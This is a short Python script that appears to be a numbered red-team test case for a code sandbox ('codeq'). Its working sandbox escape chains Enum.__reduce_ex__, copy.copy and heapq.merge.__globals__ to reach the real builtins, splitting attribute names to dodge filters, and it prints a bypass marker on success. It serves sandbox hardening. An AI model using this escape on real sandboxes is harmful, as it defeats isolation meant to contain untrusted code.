# Enum.__reduce_ex__ returns (getattr, (self.__class__, self._name_)) with enum's real
# getattr, and copy.copy calls it. The functional API puts a property under a run-time name
# (__class__) in the class, and _name_ is a plain attribute: getattr(heapq.merge,
# '__globals__') gave heapq's globals, so the real builtins. Found by a third red-team review.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "131_enum_reduce_real_getattr"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import copy
import enum
import heapq

state = {"target": None}


def cls_of(self):
    return type(self) if state["target"] is None else state["target"]


E = enum.Enum("E", [("A", 1), ("__cl" + "ass__", property(cls_of))])
m = E.A
state["target"] = heapq.merge
m._name_ = "__glo" + "bals__"
try:
    g = copy.copy(m)
finally:
    state["target"] = None
won(type(g["__buil" + "tins__"]))
